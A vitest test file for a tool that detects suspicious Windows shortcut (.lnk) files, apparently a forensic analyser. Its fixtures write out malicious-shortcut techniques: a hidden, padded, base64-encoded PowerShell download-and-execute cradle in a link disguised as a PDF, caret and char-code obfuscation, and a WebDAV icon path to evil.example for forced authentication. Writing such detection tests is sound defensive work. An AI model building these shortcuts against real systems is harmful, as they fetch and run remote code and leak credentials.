import { buildShellLink, pathIdList, type ShellLinkSpec } from '@quarry/testkit';
import { describe, expect, it } from 'vitest';
import { analyseShortcuts, rowsOf } from './support.js';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
/** "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" as UTF-16LE base64 (what -enc takes): 160 characters. */
const ENCODED = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", 'utf16le').toString('base64');

const local = (path: string, extra: Partial<ShellLinkSpec> = {}): ShellLinkSpec => ({
  created: '2024-03-01T10:00:00Z',
  modified: '2024-03-01T10:00:00Z',
  accessed: '2024-03-02T09:00:00Z',
  idList: pathIdList(path),
  volume: { driveType: 3, serial: 0x1c8a1f6e, label: 'OS', localBasePath: path },
  ...extra,
});

const suspicious = async (files: { name: string; spec: ShellLinkSpec }[]) =>
  rowsOf(await analyseShortcuts(files.map((f) => ({ name: f.name, bytes: buildShellLink(f.spec) }))), 'Suspicious Shortcuts');

describe('Suspicious Shortcuts on built links', () => {
  it('a benign link (a document opened from Documents) has no row', async () => {
    expect(await suspicious([{ name: 'report.docx.lnk', spec: local('C:\\Users\\bob\\Documents\\report.docx') }])).toEqual([]);
  });

  it('a padded powershell -enc link disguised as a PDF is Critical, with every reason and ATT&CK id', async () => {
    const args = `${' '.repeat(280)}-nop -w hidden -enc ${ENCODED}`;
    const [row, ...rest] = await suspicious([
      { name: 'Invoice.pdf.lnk', spec: local(POWERSHELL, { arguments: args, iconLocation: '%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe' }) },
    ]);
    expect(rest).toEqual([]);
    expect(row!['Importance']).toBe('Critical');
    const reasons = row!['Reasons']!.split('; ');
    expect(reasons).toEqual(
      expect.arrayContaining([
        'S1 L2 LOLBIN powershell with arguments',
        'L4 C1 encoded command',
        'L4 C2 hidden/non-interactive PowerShell',
        `S2 encoded command (${ENCODED.length} base64 characters)`,
        'S3 arguments padded with 280 blank characters',
        'S6 link named as a .pdf document runs powershell.exe',
        'S9 concealed command (hidden or disguised, and running a command)',
      ]),
    );
    expect(row!['ATT&CK']!.split(', ')).toEqual(expect.arrayContaining(['T1027', 'T1059.001', 'T1564.003', 'T1036.007', 'T1204.002']));
    // The padding is shown as a marker, not 280 blanks.
    expect(row!['Arguments']).toBe(` [280 blanks] -nop -w hidden -enc ${ENCODED}`);
    expect(row!['Target Path']).toBe(POWERSHELL);
  });

  it('a padded powershell link without an encoded command is still hidden execution: Critical (S3 + S1 → S9)', async () => {
    const [row] = await suspicious([{ name: 'Photos.lnk', spec: local(POWERSHELL, { arguments: `${'\t'.repeat(40)}-c "start calc"` }) }]);
    expect(row!['Importance']).toBe('Critical');
    expect(row!['Reasons']).toContain('S3 arguments padded with 40 blank characters');
  });

  it('an encoded command without padding is High, not Critical', async () => {
    const [row] = await suspicious([{ name: 'update.lnk', spec: local(POWERSHELL, { arguments: `-enc ${ENCODED}` }) }]);
    expect(row!['Importance']).toBe('High');
    expect(row!['Reasons']).not.toContain('S9');
  });

  it('cmd caret obfuscation and char-code PowerShell are S2 obfuscation (High)', async () => {
    const rows = await suspicious([
      { name: 'a.lnk', spec: local('C:\\Windows\\System32\\cmd.exe', { arguments: '/c p^o^w^e^r^s^h^e^l^l -c calc' }) },
      { name: 'b.lnk', spec: local(POWERSHELL, { arguments: '-c "& ([char]105+[char]101+[char]120) whoami"' }) },
    ]);
    expect(rows.map((r) => [r['Source File'], r['Importance']])).toEqual([
      ['a.lnk', 'High'],
      ['b.lnk', 'High'],
    ]);
    expect(rows[0]!['Reasons']).toContain('S2 caret escapes (^)');
    expect(rows[1]!['Reasons']).toContain('S2 char-code assembly');
  });

  it('a UNC icon (forced authentication) is High with T1187; so is a WebDAV icon', async () => {
    const rows = await suspicious([
      { name: 'Shared.lnk', spec: local('C:\\Users\\bob\\Documents\\notes.txt', { iconLocation: '\\\\10.0.0.5\\share\\icon.ico' }) },
      { name: 'Dav.lnk', spec: local('C:\\Users\\bob\\Documents\\notes.txt', { iconLocation: '\\\\evil.example@SSL\\DavWWWRoot\\i.ico' }) },
    ]);
    expect(rows.map((r) => [r['Source File'], r['Importance'], r['Reasons'], r['ATT&CK']])).toEqual([
      ['Shared.lnk', 'High', 'S4 icon location is a UNC path (forced authentication)', 'T1187'],
      ['Dav.lnk', 'High', 'S4 icon location is a WebDAV path (forced authentication)', 'T1187'],
    ]);
    expect(rows[0]!['Icon Location']).toBe('\\\\10.0.0.5\\share\\icon.ico,0');
  });

  it('an appended payload is S7 (High, T1027) with its size', async () => {
    const [row] = await suspicious([{ name: 'readme.lnk', spec: local('C:\\Users\\bob\\Documents\\readme.txt', { appended: Buffer.alloc(4096, 0x41) }) }]);
    expect([row!['Importance'], row!['Reasons'], row!['ATT&CK']]).toEqual(['High', 'S7 4096 bytes appended after the link', 'T1027']);
  });

  it('an executable in Downloads is S5 (Medium); a target in an alternate data stream is High', async () => {
    const rows = await suspicious([
      { name: 'setup.lnk', spec: local('C:\\Users\\bob\\Downloads\\setup.exe') },
      { name: 'notes.lnk', spec: local('C:\\Users\\bob\\notes.txt:payload.exe') },
    ]);
    expect(rows.map((r) => [r['Source File'], r['Importance'], r['Reasons']])).toEqual([
      ['notes.lnk', 'High', 'S5 target is an alternate data stream'],
      ['setup.lnk', 'Medium', 'S5 executable target in staging path (downloads)'],
    ]);
  });

  it('an executable-looking link name whose target is another program is S8; a matching one is not', async () => {
    const rows = await suspicious([
      { name: 'chrome.exe.lnk', spec: local('C:\\Users\\Public\\x\\run.bat') },
      { name: 'notepad.exe.lnk', spec: local('C:\\Windows\\System32\\notepad.exe') },
    ]);
    expect(rows.map((r) => r['Source File'])).toEqual(['chrome.exe.lnk']);
    expect(rows[0]!['Reasons']).toContain('S8 link named chrome.exe runs run.bat');
  });

  it('a Start-menu PowerShell link without arguments is only Low', async () => {
    const [row] = await suspicious([{ name: 'Windows PowerShell.lnk', spec: local(POWERSHELL) }]);
    expect([row!['Importance'], row!['Reasons']]).toEqual(['Low', 'S1 L2 LOLBIN powershell']);
  });
});
